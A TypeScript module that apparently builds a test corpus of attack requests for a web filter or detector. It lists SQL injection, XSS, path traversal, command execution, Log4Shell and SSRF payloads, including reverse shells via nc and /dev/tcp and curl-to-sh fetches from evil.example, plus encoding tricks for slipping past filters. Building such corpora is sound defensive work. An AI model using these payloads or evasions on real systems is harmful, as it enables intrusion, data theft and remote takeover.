import { type CorpusRequest, formRequest, jsonRequest, queryRequest } from './corpus-request.ts'

/** Payloads by kind of attack, in plain form; evasions are made of them below. */
const payloads = {
  sqli: [
    "1' OR '1'='1",
    "1' OR 1=1-- ",
    "admin'--",
    "admin' #",
    "' OR ''='",
    '" OR ""="',
    "1' AND 1=2 UNION SELECT username, password FROM users-- ",
    '1 UNION SELECT NULL,NULL,NULL',
    '-1 UNION ALL SELECT 1,2,3,table_name FROM information_schema.tables',
    "1'; DROP TABLE orders; --",
    '1; SELECT pg_sleep(5)',
    "1' AND SLEEP(5)-- ",
    "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- ",
    "1 OR BENCHMARK(5000000,MD5('a'))",
    "1; WAITFOR DELAY '0:0:5'--",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' AND EXTRACTVALUE(1, CONCAT(0x7e, VERSION()))-- ",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- ",
    "1' HAVING 1=1-- ",
    "1' ORDER BY 10-- ",
    "1' GROUP BY id HAVING 1=1-- ",
    "' UNION SELECT load_file('/etc/passwd')-- ",
    "1' INTO OUTFILE '/var/www/shell.php'-- ",
    '1) OR (1=1',
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ",
    '1 AND (SELECT COUNT(*) FROM sysobjects)>0',
    "' || (SELECT utl_inaddr.get_host_name FROM dual) || '",
    "1' AND updatexml(1,concat(0x7e,(SELECT @@version)),1)-- ",
    "x' AND email IS NULL; --",
    "1' PROCEDURE ANALYSE()-- ",
    '1 AND 1=CAST((SELECT version()) AS int)',
    "1' OR username LIKE '%admin%",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(document.cookie)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit>',
    '<video><source onerror="alert(1)"></video>',
    '<math href="javascript:alert(1)">x</math>',
    '<style>@import "javascript:alert(1)";</style>',
    '<div style="width: expression(alert(1))">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<marquee onstart=alert(1)>',
    '<script src=//evil.example/x.js></script>',
    "<img src='x' onerror='eval(atob(\"YWxlcnQoMSk=\"))'>",
    '<svg><script>alert&#40;1&#41;</script></svg>',
    'javascript:alert(document.domain)',
    '<applet code="x">',
    '<isindex action=javascript:alert(1) type=image>',
    '<button formaction=javascript:alert(1)>x</button>',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/shadow',
    '....//....//etc/passwd',
    '../../../../proc/self/environ',
    'file:///etc/passwd',
    '../../.ssh/id_rsa',
    '/var/log/../../etc/hosts',
    '../wp-config.php',
    '../../.git/config',
  ],
  rce: [
    '; cat /etc/passwd',
    '| id',
    '`whoami`',
    '$(curl http://evil.example/x.sh | sh)',
    '; wget http://evil.example/x -O /tmp/x',
    '&& ping -c 1 evil.example',
    '; nc -e /bin/sh 192.0.2.1 4444',
    '| /bin/bash -i >& /dev/tcp/192.0.2.1/80 0>&1',
    '() { :; }; /bin/bash -c id',
    'cmd.exe /c dir',
    '; powershell -enc SQBFAFgA',
    '; uname -a',
    '<?php system($_GET["c"]); ?>',
    'php://input',
    'data://text/plain;base64,PD9waHA=',
    'phpinfo()',
    'eval(base64_decode("cGhwaW5mbygpOw=="))',
    `$\{jndi:ldap://evil.example/a}`,
    `$\{$\{lower:j}ndi:$\{lower:l}dap://evil.example/a}`,
    '#{T(java.lang.Runtime).getRuntime().exec("id")}',
    "require('child_process').exec('id')",
    '{{constructor.constructor("return process")()}}',
    'java.lang.ProcessBuilder',
    "__import__('os').system('id')",
  ],
  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8080/?', 'gopher://127.0.0.1:6379/_'],
  protocol: ['x\r\nSet-Cookie: a=b', 'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK', 'a\u0000b'],
} as const

export type AttackKind = keyof typeof payloads

const encodeAll = (text: string) =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
const alternateCase = (text: string) =>
  [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter.toLowerCase())).join('')

/** Ways to hide a payload in a query; each gives the text after `q=`. */
const evasions: readonly {
  readonly name: string
  readonly kinds: readonly AttackKind[]
  hide(text: string): string
}[] = [
  { name: 'encoded in full', kinds: ['sqli', 'xss', 'path-traversal', 'rce'], hide: encodeAll },
  {
    name: 'encoded twice',
    kinds: ['sqli', 'xss', 'path-traversal'],
    hide: (text) => encodeURIComponent(encodeURIComponent(text)),
  },
  { name: 'case', kinds: ['sqli', 'xss'], hide: (text) => encodeURIComponent(alternateCase(text)) },
  {
    name: 'comments for blanks',
    kinds: ['sqli'],
    hide: (text) => encodeURIComponent(text.replaceAll(' ', '/**/')),
  },
  {
    name: 'tabs and newlines',
    kinds: ['sqli'],
    hide: (text) => encodeURIComponent(text.replaceAll(' ', '\n\t')),
  },
  {
    name: 'HTML entities',
    kinds: ['xss'],
    hide: (text) => encodeURIComponent(text.replaceAll('a', '&#97;').replaceAll(':', '&colon;')),
  },
  {
    name: '%u codes',
    kinds: ['sqli', 'xss'],
    hide: (text) => encodeURIComponent(text).replaceAll("'", '%u0027').replaceAll('%3C', '%u003c'),
  },
  {
    name: 'long padding',
    kinds: ['sqli', 'xss'],
    hide: (text) => `${'a'.repeat(600)}${encodeURIComponent(text)}`,
  },
]

/** Several hundred requests that attack, each payload in several places and disguises. */
export function attackCorpus(): CorpusRequest[] {
  const requests: CorpusRequest[] = []
  for (const [kind, list] of Object.entries(payloads) as [AttackKind, readonly string[]][]) {
    for (const payload of list) {
      requests.push(queryRequest(kind, 'query', `/items?q=${encodeURIComponent(payload)}`))
      requests.push(formRequest(kind, `name=x&q=${encodeURIComponent(payload)}`))
      requests.push(jsonRequest(kind, JSON.stringify({ user: { note: payload }, count: 1 })))
      for (const evasion of evasions) {
        if (!evasion.kinds.includes(kind)) continue
        requests.push(queryRequest(kind, evasion.name, `/items?q=${evasion.hide(payload)}`))
      }
    }
  }
  return requests
}
